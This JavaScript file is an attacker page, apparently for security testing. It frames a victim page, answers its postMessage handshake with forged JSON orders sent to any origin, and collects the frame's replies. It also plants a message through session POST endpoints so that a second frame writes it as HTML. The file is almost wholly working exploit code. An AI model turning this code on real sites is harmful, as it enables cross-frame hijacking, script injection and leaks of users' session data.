// A foreign page that frames a victim's iframe page and gives it orders. `answers` has what the
// iframe posted after its hello.
var answers = [];
var attacked = null;
var windowId = 'abcdefgh';

function addFrame(url, name) {
  var iframe = document.createElement('iframe');
  iframe.name = name;
  iframe.src = url;
  document.body.appendChild(iframe);
  return iframe;
}

function giveOrder(type, data) {
  var text = JSON.stringify({ windowId: windowId, type: type, data: data });
  attacked.contentWindow.postMessage(text, '*');
}

// Answers the hello with `order`, which is JSON text.
function attack(pageUrl, order) {
  window.addEventListener('message', function (event) {
    if (event.source !== attacked.contentWindow || event.data.charAt(0) !== '{') {
      return;
    }
    var envelope = JSON.parse(event.data);
    if (envelope.type === 's') {
      giveOrder('s', order);
    } else {
      answers.push(envelope.type + envelope.data);
    }
  }, false);
  attacked = addFrame(pageUrl + '#' + windowId, 'attacked');
}

// Has a message wait in a session, as any page may, for whoever asks next.
function leaveMessage(sessionUrl, message, callback) {
  function post(path, body) {
    return fetch(sessionUrl + path, { method: 'POST', body: body });
  }
  post('/xhr').then(function () {
    return post('/xhr_send', JSON.stringify([message]));
  }).then(callback);
}

// A second frame of the victim's, into which the first is to write the message as HTML.
function attackWithSister(pageUrl, order, sessionUrl, message) {
  addFrame(pageUrl + '#sister00', 'sister').onload = function () {
    leaveMessage(sessionUrl, message, function () {
      attack(pageUrl, order);
    });
  };
}
